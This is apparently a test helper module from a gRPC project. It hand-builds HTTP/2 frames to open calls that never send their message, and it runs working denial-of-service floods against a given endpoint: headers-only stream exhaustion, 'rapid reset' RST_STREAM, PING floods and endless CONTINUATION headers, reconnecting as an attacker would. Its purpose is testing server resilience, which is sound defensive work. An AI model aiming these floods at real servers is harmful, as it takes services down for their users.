"""gRPC calls whose request message never comes, over a raw HTTP/2 connection.

grpcio's clients always send the message with the headers; an attacker need not.
Headers are literal HPACK (no Huffman, no table), which every server reads.
"""

import contextlib
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def _length(n: int) -> bytes:
    """An HPACK string length: a 7-bit prefix, then 7 bits a byte (RFC 7541, 5.1)."""
    if n < 127:
        return bytes([n])
    out, n = [127], n - 127
    while n >= 128:
        out.append(n & 127 | 128)
        n >>= 7
    return bytes([*out, n])


def _literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + _length(len(name)) + name + _length(len(value)) + value


def _connect(endpoint: str) -> socket.socket:
    host, port = endpoint.rsplit(":", 1)
    conn = socket.create_connection((host, int(port)), timeout=10)
    conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
    return conn


def _headers(endpoint: str, path: str) -> bytes:
    return b"".join(
        _literal(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path.encode()),
            (b":authority", endpoint.encode()),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )


def held_back_calls(endpoint: str, path: str, calls: int) -> socket.socket:
    """Open `calls` calls of `path` on one connection, send their headers, and never
    their messages; the calls last until the returned socket is closed."""
    conn = _connect(endpoint)
    headers = _headers(endpoint, path)
    conn.sendall(b"".join(_frame(1, 0x4, 2 * n + 1, headers) for n in range(calls)))
    return conn


def calls_without_message(endpoint: str, path: str, calls: int) -> socket.socket:
    """Open `calls` calls of `path` on one connection, each ended by its headers
    (END_STREAM) without a message; read the answers with ended_streams()."""
    conn = _connect(endpoint)
    headers = _headers(endpoint, path)
    conn.sendall(b"".join(_frame(1, 0x4 | 0x1, 2 * n + 1, headers) for n in range(calls)))
    return conn


def unread_calls(endpoint: str, path: str, request, calls: int) -> socket.socket:
    """Open `calls` calls of `path` with `request` (a protobuf message) on a connection
    whose flow-control window is 0: the server cannot send their answers' messages
    until the returned socket is closed."""
    host, port = endpoint.rsplit(":", 1)
    conn = socket.create_connection((host, int(port)), timeout=10)
    window = (4).to_bytes(2, "big") + (0).to_bytes(4, "big")  # INITIAL_WINDOW_SIZE 0
    conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, window))
    message = request.SerializeToString()
    data = b"\x00" + len(message).to_bytes(4, "big") + message
    headers = _headers(endpoint, path)
    conn.sendall(
        b"".join(
            _frame(1, 0x4, 2 * n + 1, headers) + _frame(0, 0x1, 2 * n + 1, data)
            for n in range(calls)
        )
    )
    return conn


FLOODS = ("headers", "reset", "ping", "continuation")


def _batches(endpoint: str, path: str, kind: str) -> Iterator[tuple[bytes, int]]:
    """What a flood of `kind` sends on one connection: (bytes, how many calls or frames
    they hold), endlessly (headers-only and reset: until the stream ids run out)."""
    headers = _headers(endpoint, path)
    if kind == "ping":
        frames = b"".join(_frame(6, 0, 0, n.to_bytes(8, "big")) for n in range(500))
        while True:
            yield frames, 500
    if kind == "continuation":  # a header block that never ends
        yield _frame(1, 0, 1, headers), 0
        frames = _frame(9, 0, 1, _literal(b"x-padding", b"a" * 16_000)) * 100
        while True:
            yield frames, 100
    cancel, stream = (8).to_bytes(4, "big"), 1  # CANCEL
    while stream < 2**31 - 1000:
        frames = []
        for _ in range(500):
            frames.append(_frame(1, 0x4, stream, headers))
            if kind == "reset":
                frames.append(_frame(3, 0, stream, cancel))
            stream += 2
        yield b"".join(frames), 500


def _flood(
    conn: socket.socket, endpoint: str, path: str, kind: str, sent: Callable[[int], None]
) -> None:
    """Flood one connection as fast as it goes, calling sent(n) after every n calls (or
    frames) sent; when the server closes it, connect again and go on, as an attacker
    would (grpc's core at times closes a connection that PINGs too often). Ends when a
    new connection fails."""
    while True:
        conn.settimeout(None)  # a server slow to read slows the flood; it does not end it
        threading.Thread(target=_drain, args=(conn,), daemon=True).start()
        with contextlib.suppress(OSError):
            for data, count in _batches(endpoint, path, kind):
                conn.sendall(data)
                sent(count)
        conn.close()
        try:
            conn = _connect(endpoint)
        except OSError:
            return


def _drain(conn: socket.socket) -> None:
    """Read (and drop) what the server sends, so that its writes never block."""
    with contextlib.suppress(OSError):
        while conn.recv(1 << 20):
            pass


def _flood_process(endpoint: str, path: str, kind: str, connections: int) -> None:
    """flood()'s process: connect every connection first (a failure ends it with an
    error), then print the count sent so far after every 10,000."""
    conns = [_connect(endpoint) for _ in range(connections)]
    lock, total = threading.Lock(), [0]

    def sent(n: int) -> None:
        with lock:
            before, total[0] = total[0], total[0] + n
            if before // 10_000 != total[0] // 10_000:
                print(total[0], flush=True)

    threads = [
        threading.Thread(target=_flood, args=(conn, endpoint, path, kind, sent)) for conn in conns
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@contextlib.contextmanager
def flood(endpoint: str, path: str, kind: str, connections: int = 1) -> Iterator[Callable[[], int]]:
    """While the block runs, a process of its own floods `connections` connections as
    fast as they go, with one of FLOODS: calls of `path` opened by their headers only;
    each cancelled at once (RST_STREAM, "rapid reset"); PING frames (each owed an
    acknowledgement); or one call whose header block never ends (CONTINUATION frames
    of 16 kB header fields). What the server sends is read and dropped. Its own
    process, as an attacker's would be: a thread of the test's process shares the
    interpreter lock with the clients under test, and goes at their pace. Yields a
    function giving the count of calls (or frames) sent so far, which raises once the
    flood has ended (a connection, or connecting again after the server closed one, failed)."""
    if kind not in FLOODS:
        raise ValueError(f"flood kind {kind!r} is not one of {FLOODS}")
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    command = [sys.executable, "-m", "tests.held_calls", endpoint, path, kind, str(connections)]
    with subprocess.Popen(command, cwd=root, stdout=subprocess.PIPE, text=True) as child:
        opened = [0]

        def follow() -> None:
            for line in child.stdout:
                opened[0] = int(line)

        def count() -> int:
            if child.poll() is not None:
                raise AssertionError(f"the flood ended (exit status {child.returncode})")
            return opened[0]

        reader = threading.Thread(target=follow)
        try:
            reader.start()
            yield count
        finally:
            child.kill()
            child.wait()
            if reader.is_alive():
                reader.join()


def send_message(conn: socket.socket, call: int, message: bytes) -> None:
    """Send, at last, the message of the `call`th call (from 0) opened on `conn`."""
    data = b"\x00" + len(message).to_bytes(4, "big") + message
    conn.sendall(_frame(0, 0x1, 2 * call + 1, data))  # DATA, END_STREAM


def ended_streams(conn: socket.socket, count: int, answered: set | None = None) -> set[int]:
    """Read frames until `count` streams were ended by the server (RST_STREAM, or
    HEADERS with END_STREAM: trailers); their ids. Streams that got a message (DATA)
    are added to `answered`."""
    buffer, ended = b"", set()
    while len(ended) < count:
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            length = int.from_bytes(buffer[:3], "big")
            kind, flags = buffer[3], buffer[4]
            stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
            if kind == 3 or (kind == 1 and flags & 0x1):
                ended.add(stream)
            elif kind == 0 and answered is not None:
                answered.add(stream)
            buffer = buffer[9 + length :]
        if len(ended) >= count:
            break
        chunk = conn.recv(65536)
        if not chunk:
            raise ConnectionError(f"the server closed the connection; ended: {sorted(ended)}")
        buffer += chunk
    return ended


if __name__ == "__main__":  # the process of flood()
    _flood_process(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]))
